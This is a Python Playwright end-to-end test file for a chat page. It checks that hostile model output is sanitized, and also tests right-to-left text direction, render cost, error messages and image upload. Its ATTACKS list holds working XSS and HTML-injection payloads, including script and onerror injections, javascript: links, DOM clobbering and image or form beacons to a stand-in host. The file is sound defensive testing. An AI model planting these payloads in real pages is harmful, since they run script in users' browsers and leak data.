"""Hostile output of a model cannot harm its reader. The worker is a stand-in that sends such output."""

from __future__ import annotations

import asyncio

import pytest
from playwright.async_api import Page, expect

from services.runtime.failure import Failure, Reason
from services.runtime.messages.message import Message
from tests.e2e.page.conftest import OpenPage, Scripted, ask, enter_key, screenshot
from tests.support.scripted_worker import MODEL, Step, content, finish, reasoning, started, usage

COMPLETE = '.turn.answer[data-status="complete"]'
ATTACKS = [
    "<script>document.title = 'harmed'</script>",
    "<img src=x onerror=\"document.title='harmed'\">",
    "<svg onload=\"document.title='harmed'\"><script>document.title='harmed'</script></svg>",
    "<svg><a xlink:href=\"javascript:document.title='harmed'\"><text y=20>press me</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='harmed'\">",
    "[press me](javascript:document.title='harmed')",
    "[press me](JaVaScRiPt:document.title='harmed')",
    "[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press me](vbscript:msgbox)",
    "<javascript:document.title='harmed'>",
    "![pixel](https://elsewhere.example/pixel.gif?secret)",
    "![x](x\" onerror=\"document.title='harmed')",
    "<style>body { display: none } .composer { background: url(https://elsewhere.example/css) }</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://elsewhere.example/bg)\">cover</div>",
    "<iframe src=\"https://elsewhere.example/\"></iframe><object data=x></object><embed src=x>",
    "<form action=\"https://elsewhere.example/\"><input name=key><button>send</button></form>",
    "<base href=\"https://elsewhere.example/\"><link rel=stylesheet href=\"https://elsewhere.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=https://elsewhere.example/\">",
    "<a href=\"https://elsewhere.example\" onmouseover=\"document.title='harmed'\" style=\"font-size:99px\">x</a>",
    "<details open ontoggle=\"document.title='harmed'\">x</details>",
    "<b onclick=\"document.title='harmed'\">x</b><sub style=\"position:fixed\">y</sub>",
    "```html\n</code></pre><img src=x onerror=\"document.title='harmed'\">\n```",
    "```\"><img src=x onerror=document.title='harmed'>\nx\n```",
    "`</code><script>document.title='harmed'</script>`",
    "$</code><script>document.title='harmed'</script>$",
    "| <img src=x onerror=\"document.title='harmed'\"> |\n|---|\n| <script>document.title='harmed'</script> |",
    "<form id=documentation><input name=attributes><input name=textContent></form>",
    "<a id=playground name=currentScript></a><img name=body>",
]  # fmt: skip
# Elements and attributes in a response that the page does not allow.
INTRUDERS = """() => [...document.querySelectorAll('.markdown *')].filter(e =>
  !/^(P|BR|HR|H[1-6]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|SPAN|A|EM|STRONG|DEL|B|I|U|S|MARK|SUB|SUP|KBD)$/.test(e.tagName)
  && !/^(TABLE|THEAD|TBODY|TR|TH|TD|DIV|BUTTON)$/.test(e.tagName)
  || [...e.attributes].some(a => /^on|^style$|^id$|^name$|^src$|^action$/i.test(a.name))
  || (e.hasAttribute('href') && !/^(https?|mailto):/.test(e.href))).map(e => e.outerHTML)"""


async def opened(open_page: OpenPage, scripted: Scripted, *expected_errors: str, path: str = "/#playground") -> Page:
    page = await open_page(scripted.url + path, expected_errors=expected_errors)
    await page.wait_for_selector(".lab")
    await enter_key(page, scripted.api_key)
    await page.select_option(".model-choice select", MODEL)
    return page


async def test_injected_html_and_scripts_have_no_effect(scripted: Scripted, open_page: OpenPage) -> None:
    page = await opened(open_page, scripted)
    title = await page.title()
    for number, attack in enumerate(ATTACKS, 1):
        # As a whole, in fragments like tokens, and as reasoning.
        fragments = [[content(attack[at : at + 3])] for at in range(0, len(attack), 3)]
        scripted.worker.script = [
            [started(), reasoning(attack)],
            *fragments,
            [content(f"\n\n{attack}\n\nend"), finish(), usage()],
        ]
        await ask(page, f"attack {number}")
        await expect(page.locator(COMPLETE)).to_have_count(number)
    for button in await page.locator(".reasoning > button").all():
        await button.click()
    for element in await page.locator(".markdown a, .markdown b, .markdown [title]").all():
        await element.hover()
    assert await page.evaluate(INTRUDERS) == []
    assert await page.title() == title
    assert await page.locator(".composer").is_visible()
    assert await page.locator(".markdown img, .markdown iframe, .markdown svg, .markdown style").count() == 0
    for link in await page.locator(".markdown a").all():
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
    await screenshot(page, "hostile-answers")


async def test_each_block_of_text_has_its_own_direction(scripted: Scripted, open_page: OpenPage) -> None:
    answer = (
        "Python یک زبان برنامه‌نویسی است.\n\nThe word سلام means hello.\n\n"
        "- نخست `git commit` را بزنید\n- سپس GitHub را باز کنید\n\n"
        "1. First\n2. Second: دوم\n\n> نقل قول از Knuth\n\n"
        "| نام | name |\n|---|---|\n| سارا | Sara |\n\n"
        "فرمول $E = mc^2$ و $$\\sum_{i=1}^n x_i$$ خوانا می‌ماند.\n\n"
        "```js\nconst سلام = 'hello'; // توضیح\n```\n\n۱. یک\n۲. دو\n\nاین خط فارسی است.\nThis line is English.\n"
    )
    scripted.worker.script = [[started()], *[[content(letter)] for letter in answer], [finish(), usage()]]
    page = await opened(open_page, scripted)
    await ask(page, "?")
    await page.wait_for_selector(COMPLETE)
    directions = await page.evaluate(
        "[...document.querySelectorAll('.answer .markdown > :is(p, ul, ol, blockquote), .answer .markdown table')]"
        ".map(e => e.tagName + ' ' + e.dir)"
    )
    assert directions == [
        "P rtl", "P ltr", "UL rtl", "OL ltr", "BLOCKQUOTE rtl", "TABLE rtl", "P rtl", "P rtl", "P rtl",
    ]  # fmt: skip
    lines = await page.locator(".answer .markdown .line").evaluate_all("all => all.map(e => e.dir)")
    assert lines == ["rtl", "ltr"]
    math = await page.locator(".answer code.math").all_inner_texts()
    assert math == ["$E = mc^2$", "$$\\sum_{i=1}^n x_i$$"]
    await screenshot(page, "directions")
    await page.evaluate("document.querySelector('.turns').scrollTop = 0")
    await screenshot(page, "directions-top")


async def test_a_finished_block_is_never_rendered_again(scripted: Scripted, open_page: OpenPage) -> None:
    """The cost of a token must not grow with the length of the response."""
    page = await opened(open_page, scripted)
    paragraphs = [[content(f"paragraph {number} with **words**\n\n")] for number in range(50)]
    scripted.worker.script = [[started()], *paragraphs, [finish(), usage()]]
    await page.evaluate("""() => {
      window.made = new Map();
      new MutationObserver(records => {
        for (const record of records) for (const node of record.addedNodes)
          if (node.tagName === 'P' && node.closest('.markdown')) {
            const text = node.textContent; window.made.set(text, (window.made.get(text) ?? 0) + 1);
          }
      }).observe(document.querySelector('#playground'), {childList: true, subtree: true});
    }""")
    await ask(page, "many")
    await page.wait_for_selector(COMPLETE)
    assert await page.locator(".answer .markdown > p").count() == 50
    most = await page.evaluate("Math.max(...[...window.made].filter(([t]) => /^paragraph/.test(t)).map(([, n]) => n))")
    # A block is rendered while it grows and when it ends.
    assert most <= 3


GROUPS, GROUP = 20, 250
"""How many groups of tokens an answer has, and how many tokens a group."""
LONG = {
    "paragraphs": ("", "words and more\n\n"),
    "code": ("```python\n", "print('words')\n"),
    "one paragraph": ("", "words and more "),
    "one list": ("", "- words and more\n\n"),
    "one table": ("| a | b |\n|---|---|\n", "| words | and more |\n"),
}


@pytest.mark.parametrize("kind", LONG)
async def test_a_long_answer_is_not_rendered_again_and_again(
    scripted: Scripted, open_page: OpenPage, kind: str
) -> None:
    page = await opened(open_page, scripted)
    first, line = LONG[kind]
    shown = [asyncio.Event() for _ in range(GROUPS)]
    script: list[Step] = [[started(), content(first or "\n")]]
    for event in shown:
        script += [[content(line) for _ in range(GROUP)], event]
    scripted.worker.script = [*script, [content("\nlast words"), finish(), usage(20_000)]]
    await page.evaluate("""() => {
      window.made = 0;
      new MutationObserver(records => {
        for (const record of records) for (const node of record.addedNodes)
          if (node.nodeType === Node.ELEMENT_NODE && node.closest('.markdown'))
            window.made += 1 + node.querySelectorAll('*').length;
      }).observe(document.querySelector('#playground'), {childList: true, subtree: true});
    }""")
    await ask(page, "long")
    for number, event in enumerate(shown, 1):
        # A line may be displayed only when the next one begins.
        least = GROUP * number - 1
        await page.wait_for_function(
            "n => (document.querySelector('.answer .markdown')?.textContent.split('words').length ?? 0) > n", arg=least
        )
        event.set()
    await page.wait_for_selector(COMPLETE)
    assert "last words" in await page.locator(".answer .markdown").inner_text()
    text = await page.evaluate("document.querySelector('.answer .markdown').textContent.length")
    assert text >= 5000 * (len(line.strip("-| \n")) - 3)
    # The beginning of a block is made again while it grows. All of it each time would be ten times as many.
    final = await page.evaluate("document.querySelectorAll('.answer .markdown *').length")
    made = await page.evaluate("window.made")
    assert made <= 3 * final + 2000


async def test_an_incomplete_response_is_marked_as_failed(scripted: Scripted, open_page: OpenPage) -> None:
    scripted.worker.script = [
        [started()],
        [content("half")],
        Failure(Reason.INTERNAL, Message.verbatim("secret details")),
    ]
    page = await opened(open_page, scripted)
    await ask(page, "?")
    await page.wait_for_selector('.turn.answer[data-status="failed"]')
    problem = await page.locator(".problem").inner_text()
    assert "خطایی در سامانه رخ داد" in problem
    assert "req-" in problem
    assert "secret" not in problem
    assert "half" in await page.locator(".answer .markdown").inner_text()


@pytest.mark.parametrize(("path", "words"), [("/#playground", "در دسترس نیست"), ("/en#playground", "not available")])
async def test_errors_are_in_the_language_of_the_page(
    scripted: Scripted, open_page: OpenPage, path: str, words: str
) -> None:
    page = await opened(open_page, scripted, "503", path=path)
    await page.select_option(".model-choice select", "expected-model")
    await ask(page, "?")
    problem = page.locator(".problem")
    await problem.wait_for()
    assert words in await problem.locator("b").inner_text()
    assert "req-" in await problem.inner_text()
    await screenshot(page, f"error-{'en' if 'en#' in path else 'fa'}")


async def test_pasted_images_are_resized_and_sent(scripted: Scripted, open_page: OpenPage) -> None:
    scripted.worker.script = [[started()], [content("a square"), finish(), usage()]]
    page = await opened(open_page, scripted)
    await page.set_input_files(".attach input", {"name": "note.txt", "mimeType": "text/plain", "buffer": b"no picture"})
    await page.wait_for_selector(".composer [role=alert]")
    await page.evaluate("""async () => {
      const canvas = Object.assign(document.createElement('canvas'), {width: 3000, height: 1500});
      canvas.getContext('2d').fillRect(0, 0, 1500, 1500);
      const blob = await new Promise(done => canvas.toBlob(done, 'image/png'));
      const data = new DataTransfer();
      data.items.add(new File([blob], 'picture.png', {type: 'image/png'}));
      document.querySelector('.composer textarea').dispatchEvent(
        new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true}));
    }""")
    await page.wait_for_selector(".previews img")
    await screenshot(page, "image-attached")
    await ask(page, "در تصویر چیست؟")
    await page.wait_for_selector(COMPLETE)
    text, image = scripted.worker.requests[-1].messages[0].content
    assert text.text == "در تصویر چیست؟"
    assert image.image.data.startswith(b"\x89PNG")
    width = int.from_bytes(image.image.data[16:20], "big")
    assert width == 1536
    await screenshot(page, "image-sent")
